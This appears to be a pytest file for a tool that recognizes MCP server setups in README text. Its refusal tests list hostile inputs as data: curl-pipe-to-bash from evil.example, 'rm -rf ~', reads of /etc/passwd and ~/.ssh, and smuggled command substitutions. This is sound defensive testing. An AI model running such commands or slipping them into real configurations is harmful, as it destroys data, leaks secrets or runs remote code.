"""Tests of recognizing servers in published text. A text that needs a shell or names no server is refused.

The texts in `snippets.json`, `published.json` and `unseen.json` were judged by hand. Each entry is what the author of
the text meant. In `unseen.json`, `wants` lists places in the entry.
"""

from __future__ import annotations

import base64
import json
import shlex
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.patience import stretched
from tests.sources.links import link_to
from trayapp.sources.placeholders import placeholder_in, placeholders_in
from trayapp.sources.recognize import is_registry_name, recognize
from trayapp.sources.server_json import short_name
from trayapp.sources.source import UnclearSourceError, Variable, own_part, with_value

HOME = Path("/home/me")
PUBLISHED = json.loads(Path(__file__).with_name("published.json").read_text(encoding="utf-8"))
UNSEEN = json.loads(Path(__file__).with_name("unseen.json").read_text(encoding="utf-8"))
SNIPPETS = json.loads(Path(__file__).with_name("snippets.json").read_text(encoding="utf-8"))


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize("snippet", SNIPPETS, ids=lambda snippet: snippet["text"][:30])
def test_what_people_publish_names_the_right_server(snippet: dict[str, Any]) -> None:
    found = [
        {"name": one.name, "entry": one.entry, "wants": [want.name for want in one.wants if want.required]}
        for one in recognize(snippet["text"], HOME)
    ]
    assert found == snippet["servers"]


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize("snippet", PUBLISHED, ids=lambda snippet: snippet["text"][:30])
def test_what_stands_in_readmes_of_real_servers_names_the_right_server_or_is_refused(snippet: dict[str, Any]) -> None:
    """The expected servers were written by hand. Only 125 of the 225 texts were used to mend the parser."""
    found: list[dict[str, Any]] | None = None
    with suppress(UnclearSourceError):
        found = [
            {"name": one.name, "entry": one.entry, "wants": [want.name for want in one.wants]}
            for one in recognize(snippet["text"], HOME)
        ]
    assert found == snippet["servers"]


LAUNCH = ("command", "args", "env", "url", "headers", "cwd", "auth", "bearer_token_env")


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize("snippet", UNSEEN, ids=lambda snippet: snippet["text"][:30])
def test_what_was_judged_before_it_was_read_names_the_right_server_or_is_refused(snippet: dict[str, Any]) -> None:
    """The texts of draws 1 to 3 come from READMEs of real servers, each judged by hand before it was first parsed.

    At first, 48 of 59, 34 of 39 and 31 of 35 texts were parsed as judged. Three that are still parsed differently are
    left out. The texts of draws 4 and 5 imitate texts of later draws that could not be parsed.
    """
    found: list[dict[str, Any]] | None = None
    with suppress(UnclearSourceError):
        found = [
            {
                "name": one.name,
                "entry": {key: one.entry[key] for key in LAUNCH if one.entry.get(key)},
                "wants": sorted(".".join(map(str, want.keys)) for want in one.wants),
            }
            for one in recognize(snippet["text"], HOME)
        ]
    assert found == snippet["servers"]


@pytest.mark.requirement("source-refused")
@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://evil.example/x.sh | bash", 'sh -c "rm -rf ~"', "npx -y foo; rm -rf ~", "npx -y foo && rm x",
        "npx -y $(curl evil.example)", "npx -y `id`", 'npx -y "$(id)"', "npx foo > /etc/x", "npx foo < /etc/passwd",
        "npx foo &", "sudo npx foo", "bash -lc 'npx foo'", "powershell -c iex", "eval npx foo", "exec npx foo",
        "npm install -g foo", "pip install foo", "brew install foo", "git clone https://x.example/y", "docker build .",
        'claude --mcp "node /a/dist/index.js"',
        "npx -y @smithery/cli install foo --client claude", "npx add-mcp <url-or-package>",
        "export TOKEN=abc", "npx 'unclosed", "export TOKEN=$(id)\nnpx foo",
        "cd /x\nnpx foo", "TOOLS=a\n# b: c\nuvx foo",
        "npx @modelcontextprotocol/inspector npx -y foo", "npx @acme/inspector --port 9000", "npx foo-mcp --version",
        "docker run --rm -p 8080:8080 acme/foo", "docker run -d acme/foo-mcp", "docker run --name mcp-db redis",
        "docker run -it acme/foo-mcp bash", "docker run --rm --entrypoint /bin/sh acme/foo-mcp",
        "docker run --rm acme/foo-mcp npm test", "docker run -i acme/foo-mcp pytest",
        "docker run -i acme/foo-mcp login",
        "uvx foo-mcp --transport streamable-http --port 8080",
        "python3 scripts/setup-foo.py", "npx @acme/config add foo ~/x.json", "uvx foo-mcp dashboard",
        "npx --package=foo-mcp -- foo-sign-mcp configure",
        "npx -y foo-mcp init", "npx -y @acme/foo foo install", "npx foo-mcp oauth-setup", "npx foo --init=~/x",
        "npx foo-mcp tools list", "npx foo-mcp <command> [flags]", "npx foo-mcp sse", "uvx foo-mcp --http",
        "FOO_TRANSPORT=sse uvx foo-mcp", "export MCP_TRANSPORT=streamable-http\nuvx foo-mcp",
        "uvx --from git+https://x.example/y foo --http", "docker run -it -p 80:80 acme/foo",
        "docker run -d -i acme/foo", 'codex mcp add a --url "${A_URL%/}/mcp"', "npx a-mcp\nexport A=1",
        "go run ./internal/gen", "go run ./cmd/foo status", "go run ./cmd/foo discover", "cargo run -- discover",
        "foo-mcp --dry-run", '{"a": {"command": "npx", "args": ["foo-mcp"], "env": {"MCP_TRANSPORT": "http"}}}',
        '{"a": {"command": "docker", "args": ["run", "-i", "-e", "A_TRANSPORT=sse", "acme/foo"]}}',
        '{"mcpServers": {"a": {"command": "npx", "args": ["a"]}}, "servers": {"a": {"command": "npx", "args": ["b"]}}}',
        '{"context_servers": {"a": {"command": "a"}}}\n\nOr\n\n{"context_servers": {"a": {"command": "b"}\n  },\n\nSo',
        '- ```json\n  {"a": {"command": "a"}}\n  ```\n- ```json\n  {"a": {"command": "b"}}\n  ```',
        "npm uninstall -g foo-mcp", "npm run auth", "cargo build --release -p foo", "docker run -i --rm", "npx -y",
        "uv run", "python -m", "The endpoints are at `/auth/*`, the log is `/dev/null`.", "mcphost --config a.json",
        "Needs\naz login\n\nclaude mcp add foo -- foo", "uv run mcp dev server.py",
        "claude mcp add {name} -- {command}",
        '{"command": "get", "workingDir": ".", "args": ["--offline"]}', "uv run foo merge --tags a.jsonl -o b.jsonl",
        '{"mcpServers": {"foo": {"command": "npm", "args": ["run", "build"]}}}',
        '{"foo": {"command": "cmd", "args": ["/c", "npx foo & calc"]}}',
        '{"foo": {"command": "cmd", "args": ["/c", "npx", "foo", "&&", "calc"]}}',
        "docker pull acme/foo\ndocker-compose up -d",
        "claude mcp add x -- npx a\nclaude mcp add x -- npx b",
        "```\nclaude mcp add a -- npx b\nclaude mcp add a -- npx c\n```\n```\nclaude mcp add a -- npx d\n```",
        '{"id": "1", "name": "A video", "url": "https://acme.example.com/1", "views": 7}',
        '"feeds": [\n  {\n    "name": "A",\n    "url": "https://acme.example.com",\n    "scopes": ["a"]\n  }\n]',
        '{"account": 1, "role": "a", "command": "aws s3 ls"}', "npx wrangler deploy",
        '{"a": {"url": {"type": "string"}}}', '{"a": {"command": "a-mcp", "headers": 5}}',
        "uvx foo-mcp validate-corpus", "npx foo-mcp generate", "npx", "https://github.com/acme/foo-mcp",
        "https://acme.example.com/foo.mcpb", "https://a.test/package/@x/acme-mcp", "https://a.test/project/acme/",
        "foo.mcpb", "foo-mcp", "npx @smithery/cli mcp add @x/foo",
        "Command: npx\nArguments: -y foo && rm x",
        '```\nnpx a\n```\nor\n```\nnpx b\n```', "npm run a\n{\n\"a\": 1\n}",
        '{"tasks": [{"label": "x", "command": "y"}]}',
        "droid mcp add foo 'npx -y foo-mcp' extra words", "copilot mcp add --transport http <name> <mcp-url>",
        "https://www.npmjs.com/package/@acme/mcp", "https://hub.docker.com/r/mcp/acme",
        "codex mcp add <name> --env A=B -- <stdio command>", "claude mcp add --stdio node server.js",
        "build/acme and more words", "claude mcp add a -- npx a && rm -rf x", "npx a && npx b",
        "claude mcp add a http://localhost:1/mcp\n# or\nclaude mcp add a http://localhost:1/mcp -H 'X-Key: $K'",
        "pip install a\ncp /etc/passwd x\nclaude mcp add a -- a-mcp",
        "export A=1\nnpx foo\nnpx bar", 'codex "Find my notes"', "codex exec --json x", "code .",
        '{"type": "command", "command": "cd /x && foo"}', '{"mcpServers": {"a": {"command": "a | b"}}}',
        '{"mcpServers": {"a": {"headers": {"X": "1"}}}}', '{"a": {"url": "ws://127.0.0.1:1"}}',
        "npx foo-mcp serve --port 8080", "npx foo-mcp --setup-claude", "cargo run -- --validate-config",
        "uvx --from git+https://x.example/y foo-cli auth login", "npx foo-doctor",
        "HTTP_STREAMABLE_SERVER=true npx foo-mcp", "https://vscode.dev/redirect",
        "uv run mcp install a.py", "npm run release:all", "yarn --cwd /x lint", "npx foo-mcp review_files src --deep",
        '{"command": "/bin/cat", "args": [{"name": "file", "required": true}]}',
        "npx wrangler secret put A", "uv run pytest -m foo_mcp", "python -m build", '{"command": ["ls", "-l"]}',
        '{"command": "ls -l", "cwd": "/x", "timeout": 5}', "npx foo analyze-repository --since 1", "npx foo ls-items",
        '{"mcpServers": {"a": {"command": "curl", "args": ["-s", "https://a.test"]}}}',
        '[{"file": "a.c", "directory": "/x", "arguments": ["-Wall"], "command": "cc -Wall a.c"}]',
        '{"type": "webhook", "url": "https://hooks.acme.io/1", "active": true, "events": ["push"]}',
        "npx add-skill https://github.com/acme/foo", "import { A } from 'a';\nconst b = { c: 1 };",
        "npx a\nnpx b", "github", "", "   ", "{", "[]", "{}", '{"a": 1}',
        "servers:\n  web:\n    command: npm run dev\n    port: 3000", "npx tsx scripts/seed.ts 500",
        "cargo run -- setup", "npx foo-mcp --listen 3000", "uvx mcpo --port 3010 -- npx foo-mcp",
        '{"lsp": {"servers": {"typescript": {"command": "npx", "args": ["typescript-language-server", "--stdio"]}}}}',
        "npx @acme/wizard@latest mcp add", "npx @acme/wizard", "npx foo mcp install", "npx mcp-chat --server foo",
        "docker run -i -p 3000:3000 mcp/inspector", "npx foo-mcp --init-config",
        "npx foo-mcp --generate-key",
        "uvx --from foo-mcp foo-mcp-generate-session", "npx foo-mcp session", "npx foo-mcp benchmark .",
        "uvx foo-mcp --transport http --http-url http://localhost:8080", "uvx foo-mcp --health",
        "npx foo-mcp --list-accounts", "npx foo-mcp inspect server.ts", "npx @acme/dxt pack",
        "ENABLE_STREAMABLE_HTTP_TRANSPORT=1 npx foo-mcp",
        "docker run -i --rm -e STREAMABLE_HTTP=true acme/foo-mcp",
        '{"mcpServers": {"a": {"command": "a", "env": ["A=1"]}}}',
        '{"mcpServers": {}}', '{"mcpServers": {"x": {"args": ["a"]}}}', "mcpServers: [", "[mcp_servers.x\ncommand = 1",
        "http://evil.example/mcp", "https://user:pass@mcp.example.com/mcp", "https://mcp.exa\u202emple.com/mcp",
        "https://mcp.exa&#x202e;mple.com/mcp?a&amp;b",
        'npx -y supergateway --stdio "npx foo-mcp" --port 8000', "mcp-proxy --port=8080 uvx foo-mcp",
        "docker exec foo python -m foo_mcp", "docker compose up -d", "pipx install foo-mcp", "pnpm add @foo/mcp",
        "uvx install foo-mcp", "go test -v ./e2e", "npx cdk bootstrap a://b", "npx foo skills search pdf",
        "~/.kiro/\nx",
        "python -m foo_mcp --level DEBUG [other options]", "our mcp server", "/** What this does */",
        '$a = "b"\n$b  = "c/d.json"', "export A=b && npx foo && rm x", "{ servers: { a: { url: response.url } } }",
        '{"servers": {"a": {"command": "npx", "env": {"A": f(1)}}}}',
        "curl https://a.test/i.sh | bash\nclaude mcp add a -- a-mcp", "wget -O- a.test | sh && claude mcp add a -- a",
        "pip install a; rm -rf ~\nclaude mcp add a -- a-mcp", "pip install a > /x\nclaude mcp add a -- a-mcp",
        "pip install `id`\nclaude mcp add a -- a-mcp", 'pip install "$(id)"\nclaude mcp add a -- a-mcp',
        "sudo rm -rf /\nclaude mcp add a -- a-mcp", "LD_PRELOAD=/x.so pip install a\nclaude mcp add a -- a-mcp",
        'eval "$(x)"\nclaude mcp add a -- a-mcp', "pip install a\ncp ~/.ssh/id /x\nclaude mcp add a -- a-mcp",
        "pip install a\nnpx a-mcp\nnpx b-mcp", "codex exec foo -- npx a", "claude -p add foo -- ls",
        "claude mcp add a -- pip install a-mcp", "codex mcp add a -- $node (Join-Path $root 'a.mjs')",
        'claude mcp add a -- "$(which `id`)"', "claude mcp add a -- $(which a; id)", "a-mcp --help",
        "apiVersion: v1\nkind: Service\nmetadata:\n  name: a\nspec:\n  url: https://a.test",
        "goose configure extensions --remove a -- npx a", "goose run --recipe add -- npx a",
        "npm install\nnpm run dev", "pip install acme\nacme run",
        "pip install -r a.txt\nsource .venv/bin/activate\npython server.py",
        "bin/pip-x install a\nclaude mcp add a -- a-mcp", "claude mcp remove a || rm -rf ~\nclaude mcp add a -- a-mcp",
        "git clone https://a.test/a-mcp && cd a-mcp && npm i && npm run build",
        "See https://docs.foo.test/mcp and https://foo.test/mcp.", "Read https://docs.foo.test/mcp first.",
        "curl https://a.test/mcp | bash", "npx add-mcp find", "npx install-mcp a --url https://a.test/mcp",
        "npx add-mcp https://a.test/mcp --unknown x", "npx mcp-add",
        'url = "http://localhost:8000/mcp"', "acme add --type http x https://a.test/mcp",
        "Token written to: /tmp/a-mcp-1",
        "npx foo-mcp --port 8931", "./foo-mcp --port=8008 --config a.toml", "npx mcporter call --stdio npx foo-mcp",
        "uv run foo-mcp --transport http://127.0.0.1:8744/sse", "./eng/scripts/Build.ps1 -All",
        "export A=1\nrm -rf ~", "export A=1; rm -rf ~", '$x = "y"; Remove-Item -Recurse C:\\', "cmd /c del C:\\x",
        'cmd /c "npx foo & calc"', "cmd /c npx foo & calc",
        "python a_mcp.py [OPTIONS]", "uv tool upgrade foo-mcp", "npx modelcontextprotocol/inspector foo-mcp",
        "python tests/mcp/run.py", "node scripts/build-mcp.js", "uv run test_server.py",
        "java -Dspring.profiles.active=http -jar a.jar", "java -Dspring.ai.mcp.server.stdio=false -jar a.jar",
        "cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=%%%", "vscode:extension/foo.bar",
        "goose://extension?name=x", "https://vscode.dev/redirect?url=https%3A%2F%2Fevil.example",
        "npx foo\0bar", "x" * 1_000_001, '{"mcpServers": {"a": ' * 3000,
        '{"mcpServers": {"a": {"command": "npx", "args": "not a list"}}}',
        '{"name": "io.github.a/b", "packages": [{"registryType": "npm", "identifier": "a; rm -rf ~", "version": "1"}]}',
        '{"name": "io.github.a/b", "packages": [{"registryType": "npm", "identifier": "file:/tmp/a", "version": "1"}]}',
        '{"name": "io.github.a/b", "packages": [{"registryType": "npm", "identifier": "https://x.test/a.tgz"}]}',
        '{"name": "io.github.a/b", "packages": [{"registryType": "oci", "identifier": "../a", "version": "1"}]}',
        '{"name": "io.github.a/b", "packages": [{"registryType": "cargo", "identifier": "a", "version": "1"}]}',
        "a: &a [x, x, x]\nb: &b [*a, *a, *a, *a]\nc: &c [*b, *b, *b, *b]\nmcpServers: {x: *c}",
    ],
    ids=lambda text: repr(text[:30]),
)  # fmt: skip
def test_what_is_unclear_is_refused_with_what_to_do(text: str) -> None:
    with pytest.raises(UnclearSourceError) as caught:
        recognize(text, HOME)
    assert caught.value.hint


@pytest.mark.requirement("source-refused")
@pytest.mark.parametrize(
    ("text", "what", "hint"),
    [
        ("git clone https://x.test/a\n./a/setup\nclaude mcp add a -- node a.js", "./a/setup",
         "claude mcp add a -- node a.js"),
        ("claude mcp add a -- npx a-mcp\nclaude mcp add b -- npx b-mcp\nnpx c install", "npx c install",
         "claude mcp add a -- npx a-mcp; claude mcp add b -- npx b-mcp"),
        ("docker run -p 1:1 acme/a\nclaude mcp add a https://a.test", "docker run", "claude mcp add a https://a.test"),
        ('{"mcpServers": {"a": {"env": {"A": "1"}}}}', "a has neither a command nor a url", "whole snippet"),
        ("npx setup-mcp https://a.test/mcp --name a", "an installer", "the address itself: https://a.test/mcp"),
        ("node scripts/build-mcpb.mjs", "a developer's script", "starts the server"),
        ("npx get-mcp @acme/a-mcp --env A=b", "an installer", "add npm:@acme/a-mcp"),
        ("npx -y setup-mcp 'npx -y a-mcp' --client claude", "an installer", "the command inside it: npx -y a-mcp"),
        ("uvx mcpm add a -- npx -y a-mcp", "an installer", "the command inside it: npx -y a-mcp"),
        ("mcp-get install @acme/a-mcp", "an installer", "add npm:@acme/a-mcp"),
        ("npx -y @smithery/cli install @acme/a-mcp --client x", "an installer", "multi-mcp find a"),
        ("npx mcp-install --type http --url https://a.test/mcp", "an installer", "itself: https://a.test/mcp"),
        ("npx @acme/a-mcp setup https://a.test/mcp", "@acme/a-mcp setup starts no server", "https://a.test/mcp"),
        ("npx foo bar baz", "npx foo bar does not look", "multi-mcp add NAME"),
        ("# claude mcp add a -- npx a", "only comments", "without the comment signs"),
        ("sh a.sh && claude mcp add a -- a-mcp", "sh a.sh", "then add: claude mcp add a -- a-mcp"),
        ("a login\nclaude mcp add a https://a.test/mcp -H 'Authorization: Bearer Zq8Rr7Tt6Yy5'", "a login",
         "then add: claude mcp add a ..."),
        ("az login\ncodex mcp add a -- npx a-mcp", "az login", "codex mcp add a -- npx a-mcp"),
        ("sh a.sh\na-mcp --stdio", "such as: sh a.sh", "then add: a-mcp --stdio"),
        ("sudo b\nb-mcp run https://a.test", "sudo b", "then add: b-mcp run https"),
        ('"command": "op",\n"args": ["run", "--", "podman", "run", ...]', "they contain ...", "in full"),
        ('{"a": {"command": "docker", "args": ["run", "..."]}}', "they contain ...", "in full"),
        ('{"name": "io.x/a", "version": "1.0.0"}', "io.x/a offers no server", "its own page"),
        ('{"mcpServers": {"a": {"command": "b && c"}}}', "a: its command needs a shell (it has &&)", "plain command"),
        (
            'import x from "y";\n\nconst server = new Server(new URL("https://mcp.acme.test/mcp"));',
            "This is a program (JavaScript or TypeScript), not a configuration",
            "paste its address: https://mcp.acme.test/mcp",
        ),
        (
            "from mcp import Params\n\nparams = Params(\n    command='npx',\n    args=['-y', 'a-mcp'],\n)",
            "This is a program (Python), not a configuration",
            "Paste only the server's part",
        ),
        ("docker mcp server enable acme", "sets up Docker's own MCP servers", "docker mcp gateway run"),
    ],
)  # fmt: skip
def test_a_refusal_names_what_is_in_the_way(text: str, what: str, hint: str) -> None:
    with pytest.raises(UnclearSourceError) as caught:
        recognize(text, HOME)
    assert what in caught.value.title
    assert hint in caught.value.hint


Row = tuple[str, str, dict[str, Any], list[str]]
ROWS: list[Row] = [  # text, server name, entry, and the places of the values that the user must give
    # files that a shell command writes
    ("cat >> ~/.codex/config.toml <<'EOF'\n[mcp_servers.a]\ncommand = \"a\"\nEOF\n$", "a", {"command": "a"}, []),
    ("```bash\nmkdir -p ~/x\ncat <<EOF > x.yaml\nextensions:\n  a:\n    cmd: a\n    type: stdio\nEOF\n```", "a",
     {"command": "a"}, []),
    ("mkdir -p ~/.a && echo '{\"mcpServers\": {\"a\": {\"command\": \"a\"}}}' > ~/.a/mcp.json", "a",
     {"command": "a"}, []),
    ("echo \"{\\\"mcpServers\\\": {\\\"a\\\": {\\\"command\\\": \\\"a\\\"}}}\" | sudo tee a.json", "a",
     {"command": "a"}, []),
    ("mcp_servers:\n  a:\n    url: https://a.test/mcp\n    auth_type: bearer_token\n    auth_value: m:n\n"
     "    static_headers:\n      X-A: b\n", "a",
     {"url": "https://a.test/mcp", "headers": {"X-A": "b", "Authorization": "Bearer m:n"}}, []),
    ("mcp_servers:\n  a:\n    url: https://a.test/mcp\n    auth_type: api_key\n    auth_value: <key>\n", "a",
     {"url": "https://a.test/mcp", "headers": {"x-api-key": "<key>"}}, ["headers.x-api-key"]),
    ('{"url": "https://a.test/mcp", "transport": {"type": "streamable_http", "url": "https://a.test/mcp"}}', "a",
     {"url": "https://a.test/mcp"}, []),
    ('{"a": {"command": "a-mcp", "env": {"D": "{ODBC Driver 17 for SQL Server}", "ID": "your id, any text"}}}', "a",
     {"command": "a-mcp", "env": {"D": "{ODBC Driver 17 for SQL Server}", "ID": "your id, any text"}}, ["env.ID"]),
    ("npx add-mcp https://a.test/mcp -n a\nnpx skills add a/b", "a", {"url": "https://a.test/mcp"}, []),
    ('[mcp_servers.a]\ncommand = "a"\nenv = {\n  K = "1", # TOML 1.1\n}', "a", {"command": "a", "env": {"K": "1"}}, []),
    ("printf '[mcp_servers.a]\\ncommand = \"a\"\\n' >> ~/.codex/config.toml", "a", {"command": "a"}, []),
    # commands with prompts, or changed by a text processor
    ("PS C:\\> claude mcp add a `\n>>   -e A_KEY=<key> `\n>>   -- npx a-mcp", "a",
     {"command": "npx", "args": ["a-mcp"], "env": {"A_KEY": "<key>"}}, ["env.A_KEY"]),
    ("PS C:\\> code --add-mcp '{\\\"name\\\":\\\"a\\\",\\\"command\\\":\\\"a\\\"}'", "a", {"command": "a"}, []),
    ("claude mcp add a \\ \n  -e A_KEY=<key> \\  \n  -- npx a-mcp", "a",
     {"command": "npx", "args": ["a-mcp"], "env": {"A_KEY": "<key>"}}, ["env.A_KEY"]),
    ("claude mcp add a\n  --env A_KEY=<key>\n  -- npx a-mcp", "a",
     {"command": "npx", "args": ["a-mcp"], "env": {"A_KEY": "<key>"}}, ["env.A_KEY"]),
    ("claude mcp add a \u2014env A=\u201cb c\u201d \u2014 npx a-mcp", "a",
     {"command": "npx", "args": ["a-mcp"], "env": {"A": "b c"}}, []),
    ("docker run \u2013i \u2013\u2013rm a/mcp", "a", {"command": "docker", "args": ["run", "-i", "--rm", "a/mcp"]}, []),
    ("claude mcp add a -e A=\"b \u2014 c\" -- npx a-mcp", "a",
     {"command": "npx", "args": ["a-mcp"], "env": {"A": "b \u2014 c"}}, []),
    ("claude mcp remove a; claude mcp add a -- npx a-mcp;", "a", {"command": "npx", "args": ["a-mcp"]}, []),
    ("claude mcp add a -e 'A=b; c' -- node `pwd`/a.js", "a",
     {"command": "node", "args": ["${PWD}/a.js"], "env": {"A": "b; c"}}, ["args.0"]),
    ("export A=b\n# The server — with npx\nnpx a-mcp  # — this one", "a",
     {"command": "npx", "args": ["a-mcp"], "env": {"A": "b"}}, []),
    ("gem install a-mcp\na-mcp", "a", {"command": "a-mcp"}, []),
    ("set -euo pipefail\nnpx a-mcp", "a", {"command": "npx", "args": ["a-mcp"]}, []),
    *[(f"{line}\nnpx a-mcp", "a", {"command": "npx", "args": ["a-mcp"], "env": {"A_KEY": "your-key"}}, ["env.A_KEY"])
      for line in ("set -x A_KEY your-key", "set -gx A_KEY 'your-key'", "setx A_KEY \"your-key\"")],
    ("codex mcp add a --url https://a.test/mcp --http-header 'A-Key: <key>'", "a",
     {"url": "https://a.test/mcp", "headers": {"A-Key": "<key>"}}, ["headers.A-Key"]),
    # names
    ("deno run -A npm:a-mcp", "a", {"command": "deno", "args": ["run", "-A", "npm:a-mcp"]}, []),
    ("nix run github:b/a-mcp -- --stdio", "a",
     {"command": "nix", "args": ["run", "github:b/a-mcp", "--", "--stdio"]}, []),
    ("go run github.com/b/abc/cmd/server@latest", "abc",
     {"command": "go", "args": ["run", "github.com/b/abc/cmd/server@latest"]}, []),
    ("npx https://a.test/a-mcp.tgz", "a", {"command": "npx", "args": ["https://a.test/a-mcp.tgz"]}, []),
    # values, folders and unusual characters
    ("docker run -i --rm -v %cd%:/data a/mcp", "a",
     {"command": "docker", "args": ["run", "-i", "--rm", "-v", "%cd%:/data", "a/mcp"]}, ["args.4"]),
    ('{"a": {"command": "a", "args": ["${workspaceFolder:api}", "--x"]}}', "a",
     {"command": "a", "args": ["${workspaceFolder:api}", "--x"]}, ["args.0"]),
    ("uv run fastmcp run a.py:mcp", "fastmcp",
     {"command": "uv", "args": ["run", "fastmcp", "run", "a.py:mcp"]}, []),
    ('{"a": {"command": "$HOME/bin/a", "args": ["--x"]}}', "a", {"command": "~/bin/a", "args": ["--x"]}, []),
    ('{"a": {"command": "a", "env": {"A": "${env://B:-c}", "D": "${env://E}"}}}', "a",
     {"command": "a", "env": {"A": "${B:-c}", "D": "${E}"}}, []),
    ('{"a": {"url": "https://a.test/mcp", "headers": {"Authorization": "Bearer "}}}', "a",
     {"url": "https://a.test/mcp", "headers": {"Authorization": "Bearer <token>"}}, ["headers.Authorization"]),
    ('{"a": {"command": "a", "env": {"AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}}}', "a",
     {"command": "a", "env": {"AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}},
     ["env.AWS_SECRET_ACCESS_KEY"]),
    ('{"a": {"command": "node", "args": ["/Full/Route/to/a/b.js"], "env": {"A_HOST": "such as http://localhost:80"}}}',
     "a", {"command": "node", "args": ["/Full/Route/to/a/b.js"], "env": {"A_HOST": "such as http://localhost:80"}},
     ["args.0", "env.A_HOST"]),
    ('{"a": {"command": "a", "env": {"APP_PASSWORD": "abcd efgh ijkl mnop"}}}', "a",
     {"command": "a", "env": {"APP_PASSWORD": "abcd efgh ijkl mnop"}}, ["env.APP_PASSWORD"]),
    ('{"a": {"command": "a", "env": {"A_TOKEN": "api_key_anda", "A_USER": "\uc0ac\uc6a9\uc790_\uc774\ub984"}}}', "a",
     {"command": "a", "env": {"A_TOKEN": "api_key_anda", "A_USER": "\uc0ac\uc6a9\uc790_\uc774\ub984"}},
     ["env.A_TOKEN", "env.A_USER"]),
    ("uvx 'acme-mcp>=1.0'", "acme", {"command": "uvx", "args": ["acme-mcp>=1.0"]}, []),
    ('tools=[{\n  "type": "mcp",\n  "server_label": "a",\n  "server_url": "https://a.test/mcp",\n}]', "a",
     {"url": "https://a.test/mcp"}, []),
    ("goose://extension?url=https%3A%2F%2Fa.test%2Fmcp&id=a&header=A-Key%3D%3Ckey%3E", "a",
     {"url": "https://a.test/mcp", "headers": {"A-Key": "<key>"}}, ["headers.A-Key"]),
    # rare forms
    ("gemini mcp add --transport http a INSTANCE_URL/mcp", "a", {"url": "INSTANCE_URL/mcp"}, ["url"]),
    ("# 1\nclaude mcp add-json <name> '<json>'\n# 2\nclaude mcp add-json a '{\"command\": \"a\"}'\nclaude doctor", "a",
     {"command": "a"}, []),
    ("kiro-cli mcp add --name a --url https://a.test/mcp --headers '{\"A\": \"Bearer <key>\"}'", "a",
     {"url": "https://a.test/mcp", "headers": {"A": "Bearer <key>"}}, ["headers.A"]),
    ("pnpm dlx a-mcp --help\npnpm --silent dlx a-mcp", "a",
     {"command": "pnpm", "args": ["--silent", "dlx", "a-mcp"]}, []),
    ("claude mcp add a -- \"$(which uv)\" run --directory /path/to/a a", "a",
     {"command": "uv", "args": ["run", "--directory", "/path/to/a", "a"]}, ["args.2"]),
    ("https://vs-open.link/mcp-install?%7B%22name%22%3A%22a%22%2C%22command%22%3A%22a%22%7D", "a",
     {"command": "a"}, []),
    ('copilot mcp add a -- `\n  uv run --directory "$env:LOCALAPPDATA\\a" a.py', "a",
     {"command": "uv", "args": ["run", "--directory", "$env:LOCALAPPDATA\\a", "a.py"]}, ["args.2"]),
    ("$key = \"YOUR_KEY\"\n$ErrorActionPreference = 'Stop'\n& claude mcp add a -e KEY=$key -- npx a", "a",
     {"command": "npx", "args": ["a"], "env": {"KEY": "YOUR_KEY"}}, ["env.KEY"]),
    ('{"command": "dotnet", "args": ["/path/to/net9.0/5head-mcp.dll", "--host", "TARGET_IP"]}', "5head",
     {"command": "dotnet", "args": ["/path/to/net9.0/5head-mcp.dll", "--host", "TARGET_IP"]}, ["args.0", "args.2"]),
    ("claude mcp add a -e UID=<\u539f\u795eUID> -- node /\u7d76\u5bfe\u30d1\u30b9/a/server.js", "a",
     {"command": "node", "args": ["/\u7d76\u5bfe\u30d1\u30b9/a/server.js"], "env": {"UID": "<\u539f\u795eUID>"}},
     ["args.0", "env.UID"]),
    ("npx -y github:acme/Kit#path:apps/mcp", "Kit",
     {"command": "npx", "args": ["-y", "github:acme/Kit#path:apps/mcp"]}, []),
    ("apiVersion: a.io/v1\nkind: MCPServer\nmetadata:\n  name: a\nspec:\n  url: https://mcp.acme.test/mcp", "a",
     {"url": "https://mcp.acme.test/mcp"}, []),
    ("goose configure extensions --add -e A_KEY=your-key a -- npx -y a-mcp", "a",
     {"command": "npx", "args": ["-y", "a-mcp"], "env": {"A_KEY": "your-key"}}, ["env.A_KEY"]),
    ('{"a": {"command": "a", "env": {"A_HOST": "host", "A_PORT": "port", "A_USER": "your-user", "A": "<a>", "B": "<b>",'
     ' "M": "memory model name", "G": "enable the graph (Default: false)", "D": "folder for data",'
     ' "S": "read write admin", "N": "Ann Agent"}}}', "a",
     {"command": "a", "env": {
         "A_HOST": "host", "A_PORT": "port", "A_USER": "your-user", "A": "<a>", "B": "<b>",
         "M": "memory model name", "G": "enable the graph (Default: false)", "D": "folder for data",
         "S": "read write admin", "N": "Ann Agent"}},
     ["env.A", "env.A_HOST", "env.A_PORT", "env.A_USER", "env.B", "env.D", "env.G", "env.M"]),
    ('{"a": {"command": "a", "env": {"N": "helper for the team", "T": "<token>"}}}', "a",
     {"command": "a", "env": {"N": "helper for the team", "T": "<token>"}}, ["env.T"]),
    ("- name: a\n  type: http\n  url: http://a.internal:7842/mcp", "a", {"url": "http://a.internal:7842/mcp"}, []),
    ("http://nas.local/mcp", "nas", {"url": "http://nas.local/mcp"}, []),
    ('{"a": {"url": "http://host.docker.internal:80/sse"}}', "a", {"url": "http://localhost:80/sse"}, []),
    # paths of programs with spaces
    ('gemini mcp add --scope user a "C:\\Program Files\\Acme\\a.exe"', "a",
     {"command": "C:\\Program Files\\Acme\\a.exe"}, ["command"]),
    ('{"mcpServers": {"a": {"command": "[FULL PATH TO ACME]/bin/python", "args": ["a.py"], "cwd": "/srv"}}}', "a",
     {"command": "[FULL PATH TO ACME]/bin/python", "args": ["a.py"], "cwd": "/srv"}, ["command"]),
    ('- **Command**: `npx`\n- **Args**: `a-mcp --header "X: YOUR_KEY"`', "a",
     {"command": "npx", "args": ["a-mcp", "--header", "X: YOUR_KEY"]}, ["args.2"]),
    ('goose session --with-extension "A_KEY=<key> npx -y a-mcp"', "a",
     {"command": "npx", "args": ["-y", "a-mcp"], "env": {"A_KEY": "<key>"}}, ["env.A_KEY"]),
    ("goose session --with-streamable-http-extension https://mcp.acme.test/mcp", "acme",
